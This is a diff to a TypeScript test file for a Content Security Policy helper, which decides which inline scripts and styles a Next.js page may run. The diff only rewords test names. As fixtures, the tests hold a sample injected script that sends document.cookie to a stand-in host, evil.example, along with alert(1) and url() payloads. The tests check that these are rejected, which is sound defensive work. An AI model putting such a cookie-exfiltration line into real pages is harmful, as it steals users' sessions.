@@ -5,7 +5,7 @@ const push = (data: unknown[]) => `self.__next_f.push(${JSON.stringify(data)})`;
 const script = (text: string, attributes = "") => `<script${attributes}>${text}</script>`;
 
 describe("inline scripts", () => {
-  it("are those a browser would run: not files, not data", () => {
+  it("are those a browser would run: neither external scripts nor data blocks", () => {
     const html = [
       script("run()"),
       script("module()", ' type="module"'),
@@ -18,12 +18,12 @@ describe("inline scripts", () => {
 });
 
 describe("inert data", () => {
-  it("is one push of pure JSON", () => {
+  it("is a single push of JSON", () => {
     expect(isInertData(push([1, '1:"$Sreact.fragment"\n2:["$","script",null,{}]']))).toBe(true);
     expect(isInertData(push([0]))).toBe(true);
   });
 
-  it("is nothing that could act, however it is wrapped", () => {
+  it("is nothing executable, in any disguise", () => {
     const acts = [
       "alert(1)",
       `${push([1, "x"])};alert(1)`,
@@ -40,17 +40,17 @@ describe("inert data", () => {
   });
 });
 
-describe("what a page may run", () => {
+describe("allowed scripts of a page", () => {
   const theme = "((a)=>{document.documentElement.className=a})('dark')";
   const built = new Set([hashSource(theme)]);
 
-  it("is what the build wrote and what Next pushes; a script that came in with the data is not hashed", () => {
+  it("are those of the build and Next's data, and not one injected with the data", () => {
     const injected = "fetch('//evil.example/'+document.cookie)";
     const html = script(theme) + script(push([1, "a"])) + script(injected) + script(`${theme};${injected}`);
     expect(allowedInline(html, built).scripts).toEqual([hashSource(theme), hashSource(push([1, "a"]))]);
   });
 
-  it("is nothing but data where there is no build", () => {
+  it("are Next's data only when there is no build", () => {
     expect(allowedInline(script(theme) + script(push([1])), new Set()).scripts).toEqual([
       hashSource(push([1])),
     ]);
@@ -58,12 +58,12 @@ describe("what a page may run", () => {
 });
 
 describe("style attributes", () => {
-  it("are read as the browser reads them, and not inside scripts", () => {
+  it("are parsed like a browser does, and not inside scripts", () => {
     const html = `<p style="--a:&quot;x&quot;">${script("'<p style=\"no\">'")}<b class="x" style="color:red">`;
     expect(styleAttributes(html)).toEqual(['--a:"x"', "color:red"]);
   });
 
-  it("that could fetch something are not allowed", () => {
+  it("with url() are not allowed", () => {
     const html = '<p style="background:url(//evil.example)"><p style="outline:none">';
     expect(allowedInline(html, new Set()).styles).toEqual([hashSource("outline:none")]);
   });
